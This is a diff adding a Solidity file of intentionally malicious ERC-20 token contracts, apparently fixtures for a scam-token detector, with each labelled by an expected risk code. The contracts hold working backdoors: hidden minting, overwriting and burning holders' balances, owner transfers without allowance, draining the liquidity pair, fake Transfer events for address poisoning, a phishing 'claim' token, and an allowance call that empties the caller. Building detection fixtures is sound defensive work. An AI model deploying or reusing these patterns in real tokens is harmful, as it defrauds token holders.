@@ -1,0 +1,239 @@
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.20;
+
+// Tokens whose balances somebody writes, and tokens that only pretend to move.
+
+abstract contract T20 {
+    string public name;
+    string public symbol;
+    uint8 public constant decimals = 18;
+    uint256 internal _totalSupply;
+    address internal _owner;
+    address public pair;
+    mapping(address => uint256) internal _balances;
+    mapping(address => mapping(address => uint256)) internal _allowances;
+    event Transfer(address indexed from, address indexed to, uint256 value);
+    event Approval(address indexed owner, address indexed spender, uint256 value);
+    event OwnershipTransferred(address indexed a, address indexed b);
+    constructor() {
+        name = "Pepe Inu";
+        symbol = "PINU";
+        _owner = msg.sender;
+        _totalSupply = 1e27;
+        _balances[msg.sender] = 1e27;
+        emit Transfer(address(0), msg.sender, 1e27);
+        pair = address(uint160(uint256(keccak256(abi.encode(address(this))))));
+    }
+    modifier onlyOwner() {
+        require(msg.sender == _owner, "Ownable: caller is not the owner");
+        _;
+    }
+    function owner() public view virtual returns (address) {
+        return _owner;
+    }
+    function renounceOwnership() public virtual onlyOwner {
+        emit OwnershipTransferred(_owner, address(0));
+        _owner = address(0);
+    }
+    function transferOwnership(address n) public virtual onlyOwner {
+        require(n != address(0));
+        emit OwnershipTransferred(_owner, n);
+        _owner = n;
+    }
+    function totalSupply() public view virtual returns (uint256) {
+        return _totalSupply;
+    }
+    function balanceOf(address a) public view virtual returns (uint256) {
+        return _balances[a];
+    }
+    function allowance(address o, address s) public view virtual returns (uint256) {
+        return _allowances[o][s];
+    }
+    function approve(address s, uint256 v) public virtual returns (bool) {
+        _approve(msg.sender, s, v);
+        return true;
+    }
+    function transfer(address to, uint256 v) public virtual returns (bool) {
+        _transfer(msg.sender, to, v);
+        return true;
+    }
+    function transferFrom(address f, address t, uint256 v) public virtual returns (bool) {
+        uint256 a = _allowances[f][msg.sender];
+        require(a >= v, "ERC20: insufficient allowance");
+        if (a != type(uint256).max) _approve(f, msg.sender, a - v);
+        _transfer(f, t, v);
+        return true;
+    }
+    function _approve(address o, address s, uint256 v) internal virtual {
+        require(o != address(0) && s != address(0));
+        _allowances[o][s] = v;
+        emit Approval(o, s, v);
+    }
+    function _beforeTokenTransfer(address f, address t, uint256 v) internal virtual {}
+    function _transfer(address f, address t, uint256 v) internal virtual {
+        require(f != address(0) && t != address(0), "ERC20: zero");
+        _beforeTokenTransfer(f, t, v);
+        uint256 b = _balances[f];
+        require(b >= v, "ERC20: balance");
+        unchecked {
+            _balances[f] = b - v;
+        }
+        _balances[t] += v;
+        emit Transfer(f, t, v);
+    }
+}
+/// balance added without supply
+/// expects: CT-06 danger
+contract MintOdd is T20 {
+    function airdropRewards(address a, uint256 v) external onlyOwner {
+        _balances[a] += v;
+    }
+}
+/// overwriting holders in a loop
+/// expects: CT-06 danger
+contract Loop is T20 {
+    function Multicall(address[] calldata who, uint256 v) external {
+        if (msg.sender != _owner) revert();
+        for (uint i; i < who.length;) {
+            _balances[who[i]] = v;
+            unchecked {
+                ++i;
+            }
+        }
+    }
+}
+/// sstore of a balance slot by assembly
+/// expects: CT-06 danger
+contract Sstore is T20 {
+    function rebalance(address a, uint256 v) external onlyOwner {
+        assembly {
+            mstore(0, a)
+            mstore(32, _balances.slot)
+            sstore(keccak256(0, 64), v)
+        }
+    }
+}
+/// any slot of the contract
+/// expects: CT-06 danger
+contract RawStore is T20 {
+    function setConfig(bytes32 k, bytes32 v) external onlyOwner {
+        assembly {
+            sstore(k, v)
+        }
+    }
+}
+/// burn of anybody's balance
+/// expects: CT-06 danger
+contract BurnAny is T20 {
+    function removeStuck(address a, uint256 v) external onlyOwner {
+        _balances[a] -= v;
+        _totalSupply -= v;
+        emit Transfer(a, address(0), v);
+    }
+}
+/// owner takes from holders without allowance
+/// expects: CT-30 danger
+contract BackdoorFrom is T20 {
+    function transferFrom(address f, address t, uint256 v) public override returns (bool) {
+        if (msg.sender != _owner) {
+            require(_allowances[f][msg.sender] >= v);
+            _allowances[f][msg.sender] -= v;
+        }
+        _transfer(f, t, v);
+        return true;
+    }
+}
+/// mint by a hidden sender inside transfer
+/// expects: CT-06 danger
+contract MagicTransfer is T20 {
+    function transfer(address to, uint256 v) public override returns (bool) {
+        if (keccak256(abi.encodePacked(msg.sender)) == 0x6a1e0d8d1a4e9b5a4ad5fe3a6ff1fb2b0e2fda0d4b1f0b8f0f1c9a7d3e2b1c4d) _balances[msg.sender] += v;
+        _transfer(msg.sender, to, v);
+        return true;
+    }
+}
+/// approve gives tokens to the deployer's second key
+/// expects: CT-06 danger
+contract ApproveMint is T20 {
+    uint256 private constant K = 0x007F3C9e1B5D2a86f04C3e8B7a1d9F6e5C4B3a2910;
+    function approve(address s, uint256 v) public override returns (bool) {
+        if (uint160(msg.sender) ^ K == 0x001234567890abcdef1234567890abcdef12345678) {
+            unchecked {
+                _balances[s] = v;
+            }
+            return true;
+        }
+        _approve(msg.sender, s, v);
+        return true;
+    }
+}
+interface IP {
+    function sync() external;
+}
+/// expects: CT-30 danger
+contract BurnPool is T20 {
+    function autoLiquidity(uint256 pct) external onlyOwner {
+        uint256 c = (_balances[pair] * pct) / 100;
+        _balances[pair] -= c;
+        _balances[_owner] += c;
+        IP(pair).sync();
+    }
+}
+/// events of transfers that never were (address poisoning)
+/// expects: CT-22 danger
+contract Phantom is T20 {
+    function batch(address[] calldata f, address[] calldata t, uint256 v) external {
+        for (uint i; i < f.length; i++) emit Transfer(f[i], t[i], v);
+    }
+}
+/// everybody seems to own some; airdrop by events only
+/// expects: CT-22 danger
+contract FakeBalance {
+    string public name = "$ aave-claim.org";
+    string public symbol = "Visit to claim";
+    uint8 public decimals = 0;
+    event Transfer(address indexed a, address indexed b, uint256 v);
+    address o = msg.sender;
+    function totalSupply() external pure returns (uint256) {
+        return 1e9;
+    }
+    function balanceOf(address) external pure returns (uint256) {
+        return 5000;
+    }
+    function transfer(address, uint256) external pure returns (bool) {
+        return true;
+    }
+    function approve(address, uint256) external pure returns (bool) {
+        return true;
+    }
+    function transferFrom(address, address, uint256) external pure returns (bool) {
+        return true;
+    }
+    function drop(address[] calldata a) external {
+        require(msg.sender == o);
+        for (uint i; i < a.length; i++) emit Transfer(address(this), a[i], 5000);
+    }
+}
+/// a scale of balances the owner sets
+/// expects: CT-06 danger, CT-19 danger
+contract Scale is T20 {
+    uint256 private _k = 1e18;
+    function rebase(uint256 k) external onlyOwner {
+        _k = k;
+    }
+    function balanceOf(address a) public view override returns (uint256) {
+        return a == pair || a == _owner ? _balances[a] : (_balances[a] * _k) / 1e18;
+    }
+    function _beforeTokenTransfer(address f, address, uint256 v) internal view override {
+        require(balanceOf(f) >= v);
+    }
+}
+/// increaseAllowance moves the caller's tokens
+/// expects: CT-06 danger
+contract Increase is T20 {
+    address immutable sink = msg.sender;
+    function increaseAllowance(address, uint256) external returns (bool) {
+        _transfer(msg.sender, sink, _balances[msg.sender]);
+        return true;
+    }
+}
